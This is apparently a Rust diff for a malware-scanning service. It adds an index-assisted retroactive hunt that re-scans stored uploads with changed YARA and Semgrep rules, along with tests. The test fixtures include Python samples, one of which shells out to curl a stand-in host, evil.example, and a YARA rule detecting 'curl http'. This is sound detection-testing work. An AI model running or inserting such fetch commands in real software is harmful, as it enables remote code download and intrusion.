@@ -40,14 +40,17 @@
 //! the changed rules.
 
 use std::collections::{BTreeSet, HashMap, HashSet};
-use std::sync::Arc;
+use std::time::Instant;
 
 use semgrep_engine::{CompiledSemgrepRules, Finding, MatchScratch, MatchSet};
+use telemetry::Histogram;
 use yara_engine::{CompiledRules, ScanScratch, Scanner};
 
 use crate::artifact::FileAnalysis;
 use crate::cache::DigestKey;
+use crate::metrics::{HubCounters, HubTelemetry};
 use crate::prefilter::{RuleDelta, RuleEngine};
+use crate::store::ArtifactStore;
 use crate::verdict::LayerFinding;
 
 /// Width of the indexed content grams. Three bytes keeps the posting
@@ -432,28 +435,34 @@ impl RetroReport {
 /// One confirm-scan work item: a digest and, per engine, which subset
 /// rules to evaluate on it.
 #[derive(Debug)]
-pub(crate) struct ConfirmTask {
-    pub(crate) digest: DigestKey,
-    pub(crate) yara_mask: Vec<bool>,
-    pub(crate) semgrep_mask: Vec<bool>,
+struct ConfirmTask {
+    digest: DigestKey,
+    yara_mask: Vec<bool>,
+    semgrep_mask: Vec<bool>,
 }
 
-pub(crate) struct ConfirmOutcome {
-    pub(crate) rules: Vec<RetroRuleHits>,
-    pub(crate) verdicts: Vec<RetroVerdict>,
-    pub(crate) scans: u64,
+/// What to confirm-scan, with the nomination accounting the report
+/// carries alongside the findings.
+struct ConfirmPlan {
+    tasks: Vec<ConfirmTask>,
+    /// Per changed rule, in delta order: digests nominated for it.
+    candidates: Vec<u64>,
+    digests_indexed: u64,
+    full_candidacy_rules: u64,
 }
 
-/// Confirm-scans each task's digest with the deployment's subset
-/// rulesets, strictly gated per rule — a rule is evaluated on a digest
-/// only if that digest was nominated for it, which keeps the
-/// differential proof against the exhaustive oracle sharp.
-pub(crate) fn confirm_scan(
+/// Confirm-scans each task's digest (in digest order) with the
+/// deployment's subset rulesets, strictly gated per rule — a rule is
+/// evaluated on a digest only if that digest was nominated for it, which
+/// keeps the differential proof against the exhaustive oracle sharp.
+/// Each scan's wall time lands in `timed` when one is given.
+fn confirm_scan(
     deployment: &RuleDeployment,
-    tasks: &[ConfirmTask],
-    mut fetch: impl FnMut(&DigestKey) -> Option<Arc<FileAnalysis>>,
-    mut per_scan_ns: impl FnMut(u64),
-) -> ConfirmOutcome {
+    mut plan: ConfirmPlan,
+    store: &ArtifactStore,
+    timed: Option<&Histogram>,
+) -> RetroReport {
+    plan.tasks.sort_by_key(|task| task.digest);
     let scanner = deployment.yara.as_ref().map(Scanner::new);
     let matcher = deployment.semgrep.as_ref().map(MatchSet::new);
     let mut yara_scratch = ScanScratch::new();
@@ -470,13 +479,13 @@ pub(crate) fn confirm_scan(
     let mut verdicts: Vec<RetroVerdict> = Vec::new();
     let mut scans = 0u64;
 
-    for task in tasks {
+    for task in &plan.tasks {
         // A digest evicted between index query and confirm is simply
         // gone from the history — nothing to report on it.
-        let Some(artifact) = fetch(&task.digest) else {
+        let Some(artifact) = store.get(&task.digest) else {
             continue;
         };
-        let clock = std::time::Instant::now();
+        let clock = Instant::now();
         scans += 1;
         let hex = digest::to_hex(&task.digest);
         let mut verdict = RetroVerdict {
@@ -552,7 +561,9 @@ pub(crate) fn confirm_scan(
                 rule_digests[ci].insert(hex.clone());
             }
         }
-        per_scan_ns(clock.elapsed().as_nanos() as u64);
+        if let Some(hist) = timed {
+            hist.record(clock.elapsed().as_nanos() as u64);
+        }
         if verdict.flagged() {
             verdicts.push(verdict);
         }
@@ -562,25 +573,163 @@ pub(crate) fn confirm_scan(
     let rules = changed
         .iter()
         .zip(rule_digests)
-        .map(|(c, digests)| RetroRuleHits {
+        .zip(&plan.candidates)
+        .map(|((c, digests), &candidates)| RetroRuleHits {
             engine: c.engine,
             rule: c.name.clone(),
-            candidates: 0,
+            candidates,
             digests: digests.into_iter().collect(),
         })
         .collect();
-    ConfirmOutcome {
+    RetroReport {
         rules,
         verdicts,
-        scans,
+        digests_indexed: plan.digests_indexed,
+        candidates: plan.candidates.iter().sum(),
+        confirm_scans: scans,
+        full_candidacy_rules: plan.full_candidacy_rules,
     }
+}
+
+/// [`crate::ScanHub::retro_hunt`]: plans per-digest confirm tasks from
+/// the retro index, then confirm-scans only those. `None` when the
+/// index is disabled.
+pub(crate) fn hunt(
+    store: &ArtifactStore,
+    deployment: &RuleDeployment,
+    counters: &HubCounters,
+    telemetry: &HubTelemetry,
+) -> Option<RetroReport> {
+    let retro = store.retro.as_ref()?;
+    let query_clock = telemetry.enabled().then(Instant::now);
+    HubCounters::add(&counters.retro_hunts, 1);
+
+    let changed = &deployment.delta.changed;
+    let (yara_len, semgrep_len) = deployment.subset_lens();
+    let mut masks: HashMap<DigestKey, (Vec<bool>, Vec<bool>)> = HashMap::new();
+    let mut candidates: Vec<u64> = Vec::with_capacity(changed.len());
+    let mut full_candidacy_rules = 0u64;
+    let retro = retro.lock().expect("retro index lock");
+    let digests_indexed = retro.digest_count() as u64;
+    for (ci, rule) in changed.iter().enumerate() {
+        // Candidates for this rule: `None` means "cannot gate —
+        // full candidacy" (no exhaustive atom set). Sub-gram
+        // atoms answer exactly from the 1/2-gram postings.
+        let gated: Option<Vec<(DigestKey, bool)>> = if !rule.exhaustive {
+            None
+        } else if rule.atoms.is_empty() {
+            // Exhaustive and atomless: the rule can never match
+            // (`condition: false`), so zero candidates is sound.
+            Some(Vec::new())
+        } else {
+            let mut acc: HashMap<DigestKey, bool> = HashMap::new();
+            let mut fallback = false;
+            for atom in &rule.atoms {
+                let Some(surface) = retro.candidates_for_atom(atom, TermProvenance::Surface) else {
+                    fallback = true;
+                    break;
+                };
+                match rule.engine {
+                    // YARA scans raw bytes and every decoded
+                    // layer; any-of atom semantics unions.
+                    RuleEngine::Yara => {
+                        acc.extend(surface);
+                        let layer = retro
+                            .candidates_for_atom(atom, TermProvenance::Layer)
+                            .expect("same atom was surface-queryable");
+                        acc.extend(layer);
+                    }
+                    // Semgrep parses Python surface text only.
+                    RuleEngine::Semgrep => {
+                        acc.extend(surface.into_iter().filter(|(_, python)| *python));
+                    }
+                }
+            }
+            (!fallback).then(|| acc.into_iter().collect())
+        };
+        let list: Vec<(DigestKey, bool)> = match gated {
+            Some(list) => list,
+            None => {
+                full_candidacy_rules += 1;
+                let all = retro.all_digests();
+                match rule.engine {
+                    RuleEngine::Yara => all,
+                    RuleEngine::Semgrep => all.into_iter().filter(|(_, python)| *python).collect(),
+                }
+            }
+        };
+        candidates.push(list.len() as u64);
+        let subset = deployment.subset_pos[ci];
+        for (digest, _) in list {
+            let entry = masks
+                .entry(digest)
+                .or_insert_with(|| (vec![false; yara_len], vec![false; semgrep_len]));
+            match rule.engine {
+                RuleEngine::Yara => entry.0[subset] = true,
+                RuleEngine::Semgrep => entry.1[subset] = true,
+            }
+        }
+    }
+    drop(retro);
+    if let Some(start) = query_clock {
+        let ns = start.elapsed().as_nanos() as u64;
+        telemetry.stages.retro_query.record(ns);
+    }
+
+    let tasks = masks
+        .into_iter()
+        .map(|(digest, (yara_mask, semgrep_mask))| ConfirmTask {
+            digest,
+            yara_mask,
+            semgrep_mask,
+        })
+        .collect();
+    let plan = ConfirmPlan {
+        tasks,
+        candidates,
+        digests_indexed,
+        full_candidacy_rules,
+    };
+    let timed = telemetry
+        .enabled()
+        .then(|| &*telemetry.stages.retro_confirm);
+    let report = confirm_scan(deployment, plan, store, timed);
+    HubCounters::add(&counters.retro_candidates, report.candidates);
+    HubCounters::add(&counters.retro_confirm_scans, report.confirm_scans);
+    Some(report)
+}
+
+/// [`crate::ScanHub::retro_rescan`]: every resident digest against every
+/// changed rule, no index consulted, no counter or histogram touched.
+pub(crate) fn rescan(store: &ArtifactStore, deployment: &RuleDeployment) -> Option<RetroReport> {
+    let retro = store.retro.as_ref()?;
+    let (yara_len, semgrep_len) = deployment.subset_lens();
+    let all = retro.lock().expect("retro index lock").all_digests();
+    let tasks = all
+        .iter()
+        .map(|(digest, _)| ConfirmTask {
+            digest: *digest,
+            yara_mask: vec![true; yara_len],
+            semgrep_mask: vec![true; semgrep_len],
+        })
+        .collect();
+    let rules = deployment.delta.changed.len();
+    let plan = ConfirmPlan {
+        tasks,
+        candidates: vec![all.len() as u64; rules],
+        digests_indexed: all.len() as u64,
+        full_candidacy_rules: rules as u64,
+    };
+    Some(confirm_scan(deployment, plan, store, None))
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
     use crate::artifact::ArtifactConfig;
+    use crate::hub::tests::{hub, request, SEMGREP, YARA};
     use crate::request::FileEntry;
+    use crate::{HubConfig, ScanRequest};
 
     fn analyze(name: &str, content: &[u8]) -> FileAnalysis {
         let entry = FileEntry::new(name, content.to_vec());
@@ -769,5 +918,90 @@ mod tests {
             1,
             "duplicate insert must not duplicate postings"
         );
+    }
+
+    #[test]
+    fn retro_hunt_confirms_only_candidates_and_matches_the_rescan_oracle() {
+        let hub = hub(HubConfig::default());
+        for (i, code) in [
+            "import os\nos.system('id')\n",
+            "import socket\nsocket.socket()\n",
+            "print('benign upload')\n",
+            "import subprocess\nsubprocess.run('curl http://evil.example/x')\n",
+        ]
+        .iter()
+        .enumerate()
+        {
+            let _ = hub
+                .submit(ScanRequest::from_source(format!("pkg{i}.py"), *code))
+                .wait();
+        }
+        // New bundle: same three rules plus one new atom-gated rule.
+        let new_yara = yara_engine::compile(&format!(
+            "{YARA}\nrule curl_fetch {{ strings: $a = \"curl http\" condition: $a }}\n"
+        ))
+        .expect("yara");
+        let deployment = hub.deploy_rules(
+            Some(new_yara),
+            Some(semgrep_engine::compile(SEMGREP).expect("s")),
+        );
+        assert_eq!(
+            deployment.delta.changed.len(),
+            1,
+            "only the new rule changed"
+        );
+        assert_eq!(deployment.delta.changed[0].name, "curl_fetch");
+        assert_eq!(deployment.delta.unchanged, 4);
+        assert!(deployment.delta.new_atoms.contains(&"curl http".to_owned()));
+
+        let report = hub.retro_hunt(&deployment).expect("retro index enabled");
+        let oracle = hub.retro_rescan(&deployment).expect("oracle");
+        assert!(report.same_hits(&oracle), "index-assisted ≡ exhaustive");
+        assert_eq!(report.rules.len(), 1);
+        assert_eq!(
+            report.rules[0].digests.len(),
+            1,
+            "exactly one upload has the atom"
+        );
+        assert_eq!(report.digests_indexed, 4);
+        assert!(
+            report.confirm_scans < report.digests_indexed,
+            "the index must prune: {} scans over {} digests",
+            report.confirm_scans,
+            report.digests_indexed
+        );
+        let stats = hub.stats();
+        assert_eq!(stats.retro_hunts, 1);
+        assert_eq!(stats.retro_confirm_scans, report.confirm_scans);
+        assert_eq!(stats.retro_candidates, report.candidates);
+        assert!(stats.retro_index_atoms > 0);
+        assert_eq!(stats.retro_index_digests, 4);
+        // The retro stages recorded latency samples.
+        assert_eq!(stats.latency.retro_query.count, 1);
+        assert_eq!(stats.latency.retro_confirm.count, report.confirm_scans);
+        // Export carries the new counters and gauges.
+        let text = hub.export_prometheus();
+        assert!(text.contains("scanhub_retro_confirm_scans_total 1"));
+        assert!(text.contains("scanhub_retro_index_digests 4"));
+        assert!(telemetry::validate_prometheus(&text).is_ok());
+    }
+
+    #[test]
+    fn retro_hunt_is_unavailable_without_cache_or_index() {
+        let no_cache = hub(HubConfig {
+            artifact_cache_capacity: 0,
+            ..HubConfig::default()
+        });
+        let deployment =
+            no_cache.deploy_rules(Some(yara_engine::compile(YARA).expect("yara")), None);
+        assert!(no_cache.retro_hunt(&deployment).is_none());
+        assert!(no_cache.retro_rescan(&deployment).is_none());
+        let no_index = hub(HubConfig {
+            retro_index: false,
+            ..HubConfig::default()
+        });
+        let _ = no_index.submit(request("print('x')\n")).wait();
+        assert!(no_index.retro_hunt(&deployment).is_none());
+        assert_eq!(no_index.retro_index_size(), (0, 0));
     }
 }
